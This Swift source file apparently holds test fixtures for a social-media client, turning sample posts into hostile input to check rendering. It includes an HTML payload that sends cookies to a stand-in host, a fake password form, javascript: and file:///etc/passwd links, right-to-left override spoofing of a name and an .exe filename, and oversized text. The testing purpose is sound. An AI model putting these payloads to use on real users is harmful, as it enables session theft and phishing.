// SPDX-License-Identifier: Apache-2.0

extension Sample {
    /// Makes one of the newest posts malicious; others stay unchanged.
    ///
    /// - Parameter age: The number of newer posts.
    mutating func doHarm(_ age: Int) {
        guard Self.harms.indices.contains(age) else { return }
        self = Sample(number: number, date: date, author: SamplePerson.all[age], text: [])
        Self.harms[age](&self)
    }

    private static let harms: [@Sendable (inout Sample) -> Void] = [
        { sample in
            sample.text = [.text("A script, a form, and links that lead elsewhere. "), .html(page)]
        },
        { sample in
            sample.author = SamplePerson(
                number: 2, name: "\u{202e}elpmaS adA", user: "ada\u{202e}elpmas",
                server: "other.example")
            sample.text = [
                .text(
                    "Marks that turn what follows: invoice\u{202e}gpj.exe\u{2066}\u{2067}. "
                        + "And what comes after them.")
            ]
            sample.warning = "\u{2067}\u{202e}gninraw a"
        },
        { sample in
            let marks = String(repeating: "\u{0301}\u{0323}\u{0489}", count: 3_334)
            sample.text = [.text("Ten thousand marks on one letter: Z\(marks). And on none.")]
        },
        { sample in
            sample.text = [
                .text("A megabyte: " + String(repeating: "lorem ipsum ", count: 90_000)),
                .text(String(repeating: "\n", count: 10_000)), .text("The end of it."),
            ]
        },
    ]

    private static let page = """
        </p><script>document.location = "https://steal.example/" + document.cookie</script>\
        <style>* { display: none }</style><form action="https://steal.example/">\
        <input name="password" value="secret"><button onclick="steal()">Sign In Again</button>\
        </form><img src="x" onerror="steal()"><iframe src="file:///etc/passwd"></iframe><p>\
        <a href="javascript:steal()">A link that is a script</a>, \
        <a href="file:///etc/passwd">one into the disk</a>, \
        <a href="data:text/html,<script>steal()</script>">one that is a page</a>, \
        <a href="https://example.org/">one of the web</a>.
        """
}
